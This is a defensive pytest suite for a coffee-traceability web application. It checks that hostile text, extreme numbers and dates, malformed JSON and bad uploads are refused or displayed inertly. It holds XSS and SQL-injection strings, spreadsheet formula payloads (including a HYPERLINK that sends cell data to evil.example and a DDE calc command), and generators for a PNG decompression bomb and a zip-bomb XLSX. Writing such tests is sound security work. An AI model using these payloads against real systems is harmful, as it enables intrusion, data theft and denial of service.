"""Hostile input: each case is refused with a message naming the field, or shown inertly.

A corpus of text (markup, SQL, spreadsheet formulas, zero-width, combining and
right-to-left characters, NUL, overlong), of numbers and dates, and of uploads
(wrong type, lying extension, oversized, decompression bomb, zip bomb) is driven
through the API and the web forms. Stored text is then looked at where people
read it: the web pages, the public consumer page and the CSV/XLSX exports.
"""

import gc
import io
import json
import struct
import zipfile
import zlib

import openpyxl
import pytest
from markupsafe import escape
from PIL import Image

from core.extensions import db
from registry.models import MemberHousehold, Organization
from tests.conftest import csrf_token, row_count
from tests.linkage_helpers import contract_body
from tests.test_consumer_page import BROWSER
from trace.models import Batch, Product

# Large multipart bodies are spooled to temporary files by werkzeug's test client; they are
# collected here, inside the test that made them, rather than warned about in the next one.
pytestmark = pytest.mark.filterwarnings(
    "ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning"
)


@pytest.fixture(autouse=True)
def _collect_spooled_files():
    yield
    gc.collect()


HOSTILE_TEXT = {
    "script": '<script>alert("x")</script>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "attribute_break": '" onmouseover="alert(1)" data-x="',
    "sql": "Robert'); DROP TABLE products;--",
    "sql_union": "' OR 1=1 UNION SELECT password_hash FROM users --",
    "formula_cmd": "=cmd|' /C calc'!A0",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "formula_plus": "+1+1",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "zero_width": "Cà\u200bphê\u200d\u2060\ufeffRobusta",
    "combining": "Ca\u0300 phe\u0302\u0301" + "\u0301" * 40,
    "rtl_override": "\u202egpj.exe\u202c Cà phê",
    "mixed_direction": "قهوة Cà phê \u200f",
    "emoji": "Cà phê ☕️ 👩🏽‍🌾",
    "template": "{{ 7*7 }} {% raw %}${7*7}",
    "nul": "Cà phê\x00 nhân",
    "control": "Cà phê\x1b[31m\x07",
    "overlong": "Ầ" * 5000,
    "lone_surrogate": "Cà phê \ud800",
}
# Payloads a browser would act on if written into a page unescaped.
ACTIVE = ("script", "img_onerror", "attribute_break")
HUGE_NUMBERS = [10**30, 1e308, -1, -0.001, 0]
FAR_DATES = ["0001-01-01", "1000-01-01", "9999-12-31", "2999-01-01"]


def assert_refused(response, field: str | None = None) -> None:
    """A 4xx that says what is wrong (naming ``field`` when given), never a 5xx."""
    assert 400 <= response.status_code < 500, (response.status_code, response.data[:300])
    if response.is_json:
        body = response.json
        assert body["message"]
        if field is not None:
            assert any(key.split(".")[0] == field for key in body["errors"]), body


def assert_inert(html: str, payload: str) -> None:
    """The payload shows only as text: never raw markup, never an executable attribute."""
    if any(ch in payload for ch in '<>"'):
        assert payload not in html, "payload written into the page unescaped"
    assert "<script" not in html.lower(), "our pages carry no script element at all"
    assert "<img src=x" not in html and ' onmouseover="alert' not in html


@pytest.fixture
def coop_a(login, world):
    return login(world["users"]["coop_a"])


# --- Text through the API, shown on the web pages and the consumer page ---------------------


@pytest.mark.parametrize("case", sorted(HOSTILE_TEXT))
def test_product_name_and_lot_code(case, app, client, farm, coop_a):
    payload = HOSTILE_TEXT[case]
    with app.app_context():
        products_before = row_count(Product)
    response = client.post(
        "/api/v1/products",
        json={"name": payload, "category": "coffee", "unit": "kg"},
        headers=farm.headers,
    )
    if response.status_code != 201:
        assert_refused(response, "name")
        with app.app_context():
            assert row_count(Product) == products_before
        return
    product = response.json
    assert product["name"].strip()  # stored as text, whatever it is
    lot = client.post(
        "/api/v1/batches",
        json={
            "product_id": product["id"],
            "quantity": 10,
            "harvest_date": "2026-11-01",
            "lot_code": payload[:60],
            "households": [{"member_id": farm.world["member_a"], "quantity": 10}],
        },
        headers=farm.headers,
    )
    if lot.status_code != 201:
        assert_refused(lot, "lot_code")
        lot_json = farm.batch(product["id"], 10)
    else:
        lot_json = lot.json
    farm.harvest(lot_json["id"], farm.site()["id"])  # a harvested lot has a consumer page
    pages = {
        "product": coop_a.get(f"/trace/products/{product['id']}"),
        "products": coop_a.get("/trace/products"),
        "batch": coop_a.get(f"/trace/batches/{lot_json['id']}"),
        "batches": coop_a.get("/trace/batches"),
        "public": client.get(f"/q/{lot_json['public_code']}", headers=BROWSER),
    }
    for name, page in pages.items():
        assert page.status_code == 200, (name, page.status_code)
        assert_inert(page.get_data(as_text=True), payload)
    if case in ACTIVE:
        shown = pages["product"].get_data(as_text=True)
        assert str(escape(product["name"])) in shown, "the name is shown, escaped"


@pytest.mark.parametrize("case", sorted(HOSTILE_TEXT))
def test_member_and_organization_names(case, app, client, world, token_for, login):
    payload = HOSTILE_TEXT[case]
    dept = token_for(world["users"]["department"])
    with app.app_context():
        before = (row_count(MemberHousehold), row_count(Organization))
    member = client.post(
        f"/api/v1/organizations/{world['coop_a']}/members",
        json={"head_name": payload, "admin_unit": "23677"},
        headers=dept,
    )
    org = client.post(
        "/api/v1/organizations",
        json={
            "kind": "cooperative",
            "name": payload,
            "registration_code": "HTX-HOSTILE-1",
            "admin_unit": "23677",
        },
        headers=dept,
    )
    web = login(world["users"]["department"])
    for response, field, page in (
        (member, "head_name", f"/registry/organizations/{world['coop_a']}/members"),
        (org, "name", "/registry/organizations"),
    ):
        if response.status_code != 201:
            assert_refused(response, field)
            continue
        shown = web.get(page)
        assert shown.status_code == 200
        assert_inert(shown.get_data(as_text=True), payload)
        if case in ACTIVE:
            assert str(escape(payload.strip())) in shown.get_data(as_text=True)
    with app.app_context():
        after = (row_count(MemberHousehold), row_count(Organization))
    created = (member.status_code == 201, org.status_code == 201)
    assert after == (before[0] + created[0], before[1] + created[1])


# A lone surrogate cannot be form-encoded at all (browsers send U+FFFD instead).
@pytest.mark.parametrize("case", sorted(set(HOSTILE_TEXT) - {"lone_surrogate"}))
def test_web_form_text(case, app, coop_a):
    payload = HOSTILE_TEXT[case]
    with app.app_context():
        before = row_count(Product)
    response = coop_a.post(
        "/trace/products/new",
        data={
            "csrf_token": csrf_token(coop_a, "/trace/products/new"),
            "name": payload,
            "category": "coffee",
            "unit": "kg",
            "no_standard_declared": "y",
        },
    )
    assert response.status_code in (302, 400, 422), response.status_code
    html = response.get_data(as_text=True)
    assert_inert(html, payload)
    if response.status_code == 302:
        shown = coop_a.get(response.headers["Location"])
        assert shown.status_code == 200
        assert_inert(shown.get_data(as_text=True), payload)
    else:
        with app.app_context():
            assert row_count(Product) == before
        assert "field-error" in html or 'class="error' in html or response.status_code == 400


# --- Exports: formulas are written as text ----------------------------------------------------


FORMULAS = [HOSTILE_TEXT[k] for k in ("formula_cmd", "formula_hyperlink", "formula_plus")]


def _xlsx_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(response) -> None:
    assert response.status_code == 200
    if response.data.startswith(b"PK"):
        for cell in _xlsx_cells(response.data):
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    else:
        text = response.data.decode("utf-8-sig")
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.strip('"').startswith(("=", "+", "@")), cell


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contract_export_neutralises_formulas(fmt, client, world, linkage):
    for n, formula in enumerate(FORMULAS):
        body = contract_body(world["coop_a"], f"HĐ-F{n}", quality_standard=formula)
        body["number"] = formula if n == 0 else body["number"]
        response = client.post("/api/v1/contracts", json=body, headers=linkage.ent)
        assert response.status_code in (201, 422), response.json
    _assert_no_formula(client.get(f"/api/v1/contracts/export?format={fmt}", headers=linkage.dept))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_trace_report_neutralises_formulas(fmt, client, farm):
    product = farm.product(name=FORMULAS[0])
    site = farm.site(name=FORMULAS[1])
    batch = farm.batch(product["id"], lot_code="=1+2")
    farm.harvest(batch["id"], site["id"])
    response = client.get(
        f"/api/v1/trace-report?batch_id={batch['id']}&format={fmt}", headers=farm.headers
    )
    _assert_no_formula(response)


# --- Numbers and dates ---------------------------------------------------------------------


@pytest.mark.parametrize("quantity", HUGE_NUMBERS)
def test_batch_quantities(quantity, app, client, farm, coop_a):
    product = farm.product()
    with app.app_context():
        before = row_count(Batch)
    response = client.post(
        "/api/v1/batches",
        json={
            "product_id": product["id"],
            "quantity": quantity,
            "harvest_date": "2026-11-01",
            "households": [{"member_id": farm.world["member_a"], "quantity": quantity}],
        },
        headers=farm.headers,
    )
    if quantity <= 0 or quantity > 1e10 or response.status_code != 201:
        assert_refused(response, "quantity")
        with app.app_context():
            assert row_count(Batch) == before
        return
    assert coop_a.get(f"/trace/batches/{response.json['id']}").status_code == 200


@pytest.mark.parametrize("day", FAR_DATES)
def test_far_dates(day, app, client, farm, coop_a):
    product = farm.product()
    response = client.post(
        "/api/v1/batches",
        json={
            "product_id": product["id"],
            "quantity": 10,
            "harvest_date": day,
            "households": [{"member_id": farm.world["member_a"], "quantity": 10}],
        },
        headers=farm.headers,
    )
    if response.status_code != 201:
        assert_refused(response, "harvest_date")
    else:
        assert coop_a.get(f"/trace/batches/{response.json['id']}").status_code == 200
    event = client.post(
        "/api/v1/events",
        json={"kind": "inspection", "event_time": f"{day}T00:00:00+07:00", "lines": []},
        headers=farm.headers,
    )
    assert_refused(event)


@pytest.mark.parametrize(
    "raw",
    [
        b'{"name": "\xff\xfe\xfd", "category": "coffee", "unit": "kg"}',
        b'{"name": "\xed\xa0\x80", "category": "coffee", "unit": "kg"}',  # a lone surrogate
        b'{"name": "' + b"\\ud800" + b'", "category": "coffee", "unit": "kg"}',
        b'{"name": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        b'{"name": 1e999999, "category": "coffee", "unit": "kg"}',
        b"not json at all",
    ],
)
def test_malformed_json(raw, app, client, farm):
    with app.app_context():
        before = row_count(Product)
    response = client.post(
        "/api/v1/products", data=raw, content_type="application/json", headers=farm.headers
    )
    assert_refused(response)
    with app.app_context():
        assert row_count(Product) == before


def test_invalid_utf8_in_a_web_form(app, coop_a):
    token = csrf_token(coop_a, "/trace/products/new")
    body = f"csrf_token={token}&name=%FF%FE%ED%A0%80&category=coffee&unit=kg".encode()
    response = coop_a.post(
        "/trace/products/new", data=body, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code in (302, 400, 422)


# --- Uploads ---------------------------------------------------------------------------------


def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A valid PNG header claiming billions of pixels, in a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def real_png(size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (31, 111, 67)).save(buffer, "PNG")
    return buffer.getvalue()


UPLOADS = {
    "text_as_png": (b"hello, this is not an image", "anh.png"),
    "html_as_jpg": (b"<html><script>alert(1)</script></html>", "anh.jpg"),
    "pdf_as_jpg": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "anh.jpg"),
    "svg_with_script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "a.svg",
    ),
    "truncated_png": (real_png()[:60], "anh.png"),
    "decompression_bomb": (png_bomb(), "anh.png"),
    "oversized": (real_png()[:100] + b"\x00" * (6 * 1024 * 1024), "anh.png"),
    "empty": (b"", "anh.png"),
}


@pytest.mark.parametrize("case", sorted(UPLOADS))
def test_product_image_uploads_are_refused(case, app, client, farm):
    data, filename = UPLOADS[case]
    product = farm.product()
    response = client.put(
        f"/api/v1/products/{product['id']}/image",
        headers=farm.headers,
        data={"image": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )
    assert response.status_code in (400, 413, 422), response.status_code
    assert response.json["message"]
    if response.status_code == 422:
        assert "image" in response.json["errors"], response.json
    with app.app_context():
        assert db.session.get(Product, product["id"]).image_path is None


@pytest.mark.parametrize("case", sorted(UPLOADS))
def test_product_image_web_uploads_are_refused(case, app, farm, coop_a):
    data, filename = UPLOADS[case]
    product = farm.product()
    path = f"/trace/products/{product['id']}"
    response = coop_a.post(
        f"{path}/image",
        data={"csrf_token": csrf_token(coop_a, path), "image": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 400, 413, 422), response.status_code
    if response.status_code == 302:  # the message comes as a flash on the product page
        page = coop_a.get(response.headers["Location"]).get_data(as_text=True)
        assert "flash-error" in page or "flash-danger" in page, page[:2000]
    with app.app_context():
        assert db.session.get(Product, product["id"]).image_path is None


def test_a_real_image_is_stored_reencoded(client, farm):
    product = farm.product()
    response = client.put(
        f"/api/v1/products/{product['id']}/image",
        headers=farm.headers,
        data={"image": (io.BytesIO(real_png()), "anh.png")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    image = client.get(f"/api/v1/products/{product['id']}/image", headers=farm.headers)
    assert image.mimetype == "image/jpeg" and image.data.startswith(b"\xff\xd8")
    image.close()


def zip_bomb_xlsx(unpacked_mb: int = 260) -> bytes:
    """A small ZIP named like a workbook whose sheet unpacks to hundreds of megabytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b"\x00" * (1024 * 1024)
            for _ in range(unpacked_mb):
                sheet.write(block)
    return buffer.getvalue()


IMPORTS = {
    "zip_bomb": (zip_bomb_xlsx, "ho-thanh-vien.xlsx"),
    "pdf_as_xlsx": (lambda: b"%PDF-1.4\n%%EOF", "ho-thanh-vien.xlsx"),
    "png_as_csv": (real_png, "ho-thanh-vien.csv"),
    "binary_csv": (lambda: bytes(range(256)) * 10, "ho-thanh-vien.csv"),
    "oversized": (lambda: b"Ho ten,Ma xa\n" + b"a,23677\n" * 1_500_000, "ho-thanh-vien.csv"),
}


@pytest.mark.parametrize("case", sorted(IMPORTS))
def test_member_import_refuses_hostile_files(case, app, world, coop_a):
    make, filename = IMPORTS[case]
    path = f"/registry/organizations/{world['coop_a']}/members/import"
    with app.app_context():
        before = row_count(MemberHousehold)
    response = coop_a.post(
        path,
        data={"csrf_token": csrf_token(coop_a, path), "file": (io.BytesIO(make()), filename)},
        content_type="multipart/form-data",
    )
    assert response.status_code in (400, 413, 422), response.status_code
    if response.status_code == 422:
        assert 'class="error' in response.get_data(as_text=True) or "error" in response.get_data(
            as_text=True
        )
    with app.app_context():
        assert row_count(MemberHousehold) == before


def test_member_import_cells_are_shown_inertly(app, world, coop_a):
    path = f"/registry/organizations/{world['coop_a']}/members/import"
    names = [HOSTILE_TEXT[k] for k in ("script", "img_onerror", "formula_cmd", "rtl_override")]
    lines = ["Họ tên chủ hộ,Mã xã"] + ['"' + name.replace('"', '""') + '",23677' for name in names]
    response = coop_a.post(
        path,
        data={
            "csrf_token": csrf_token(coop_a, path),
            "file": (io.BytesIO("\n".join(lines).encode()), "ho.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 422), response.status_code
    page = coop_a.get(f"/registry/organizations/{world['coop_a']}/members")
    html = page.get_data(as_text=True)
    for name in names:
        assert_inert(html, name)
    if response.status_code == 302:
        assert str(escape(names[0])) in html


# --- EPCIS capture ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "case", ["script", "sql", "formula_cmd", "nul", "overlong", "rtl_override", "lone_surrogate"]
)
def test_epcis_capture_fields(case, app, client, buyer, farm, world):
    from tests.epcis_helpers import require_standards
    from tests.test_epcis_capture import document, object_event

    require_standards()
    payload = HOSTILE_TEXT[case]
    site = farm.site()
    lot = farm.batch(farm.product()["id"], 100)
    farm.harvest(lot["id"], site["id"])
    farm.ship(lot["id"], 100, world["ent_x"], days_ago=3)
    uri = f"{app.config['PUBLIC_BASE_URL'].rstrip('/')}/q/{lot['public_code']}"
    event = object_event(
        "receiving",
        uri,
        10,
        readPoint={"id": payload},
        bizLocation={"id": f"urn:epc:id:sgln:{payload}"},
        **{"erp:note": payload},
    )
    body = document([event], with_ids=False)
    response = client.post(
        "/api/v1/epcis/capture",
        data=json.dumps(body),
        content_type="application/json",
        headers=buyer.headers,
    )
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.status_code in (200, 201, 400, 413, 422)
    if response.status_code in (200, 201):
        page = client.get(f"/q/{lot['public_code']}", headers=BROWSER)
        assert page.status_code == 200
        assert_inert(page.get_data(as_text=True), payload)


def test_ids_beyond_any_column_are_not_found_or_refused(client, farm, linkage, world):
    huge = 10**20
    assert client.get(f"/api/v1/batches/{huge}", headers=farm.headers).status_code == 404
    assert client.get(f"/api/v1/products/{2**31}", headers=farm.headers).status_code == 404
    body = contract_body(world["coop_a"], "HĐ-HUGE")
    body["parties"][0]["organization_id"] = huge
    response = client.post("/api/v1/contracts", json=body, headers=linkage.ent)
    assert_refused(response)
    totals = client.get(f"/api/v1/scans/totals?batch_ids={huge}", headers=farm.headers)
    assert totals.status_code < 500
    assert totals.status_code >= 400 or totals.json["totals"] == {}  # refused, or nothing found
